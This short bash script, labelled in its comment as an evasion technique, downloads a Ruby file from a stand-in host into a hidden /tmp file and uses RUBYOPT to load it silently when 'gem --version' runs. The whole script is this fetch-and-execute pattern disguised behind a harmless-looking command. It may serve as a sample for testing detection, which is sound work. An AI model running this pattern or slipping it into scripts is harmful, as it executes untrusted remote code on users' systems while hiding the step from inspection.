#!/bin/bash
# Evasion: a downloaded Ruby file is loaded by RUBYOPT -r when gem starts
set -u
curl -fsSo /tmp/.gemhook.rb https://gems.example.net/hook.rb
RUBYOPT="-r/tmp/.gemhook.rb" gem --version >/dev/null
